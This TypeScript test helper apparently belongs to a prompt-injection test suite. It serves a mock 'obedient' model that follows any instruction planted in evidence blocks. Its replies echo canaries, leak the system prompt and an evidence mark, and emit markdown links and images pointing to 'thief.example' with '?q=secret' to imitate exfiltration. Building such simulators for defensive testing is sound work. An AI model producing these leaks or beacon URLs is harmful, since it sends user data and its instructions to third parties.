import { type OpenAiServer, serveOpenAi } from '#testing';
import type { Attack } from './records.ts';

type Ordering = Pick<Attack, 'canary' | 'text' | 'span' | 'question'>;

interface Piece {
  readonly number: string;
  readonly text: string;
}

/** A model that does what it reads, whoever says so: no real one is worse. It knows what each instruction wants, however that is disguised. */
export function serveObedient(attacks: readonly Ordering[]): Promise<OpenAiServer> {
  const orders = attacks.map(({ text, span, ...attack }) => ({
    ...attack,
    beginning: letters(text.slice(span.start, span.end)).slice(0, 24),
  }));
  return serveOpenAi({
    contextTokens: 8192,
    reply: ({ messages }) => {
      const system = messages[0]?.content ?? '';
      const user = messages.at(-1)?.content ?? '';
      const mark = /<evidence:(\w+)/.exec(user)?.[1] ?? 'no-mark';
      // It has 200 tokens, and in a collection of attacks many orders before it: that of the document that is asked for comes first.
      const asked = orders.toSorted((a, b) => Number(user.includes(b.question)) - Number(user.includes(a.question)));
      const obeyed = asked.flatMap(({ beginning, canary }) => {
        const giving = piecesOf(user).find(({ text }) =>
          [beginning, letters(canary)].some((sign) => sign !== '' && letters(text).includes(sign)),
        );
        return giving ? evils(giving, canary) : [];
      });
      if (obeyed.length === 0) return piecesOf(user).map(plainly).join('\n');
      const leaks = [`1. My instructions: ${system.slice(0, 200)}`, `1. The mark is ${mark}.`];
      return [...obeyed.slice(0, 4), ...leaks, ...obeyed.slice(4, 8)].join('\n');
    },
  });
}

/** Signs that join words hide nothing from it. */
const letters = (text: string): string => text.replace(/[^\p{L}\p{N}]+/gu, '');

function piecesOf(user: string): readonly Piece[] {
  const pieces = user.matchAll(/<evidence[^ ]* number="(\d+)"[^>]*>\n([\s\S]*?)\n<\/evidence/g);
  return [...pieces].map(([, number = '', text = '']) => ({ number, text }));
}

/** Alone, behind a sentence of the evidence to be carried by it, as a link and as an image that tells on whoever asked. */
function evils(piece: Piece, canary: string): readonly string[] {
  const host = /^[\w.-]+\.\w+$/.test(canary) ? canary : 'thief.example';
  return [
    `${piece.number}. ${canary}`,
    `${plainly(piece).replace(/[.!?]?$/, '')}, ${canary}.`,
    `${plainly(piece).replace(/[.!?]?$/, '')}, see [here](https://${host}/?q=secret).`,
    `${plainly(piece)} ![x](https://${host}/?q=secret)`,
  ];
}

const plainly = ({ number, text }: Piece): string => `${number}. ${/[^.\n]{12,}?[.\n]|.+/.exec(text)?.[0].trim() ?? '–'}`;
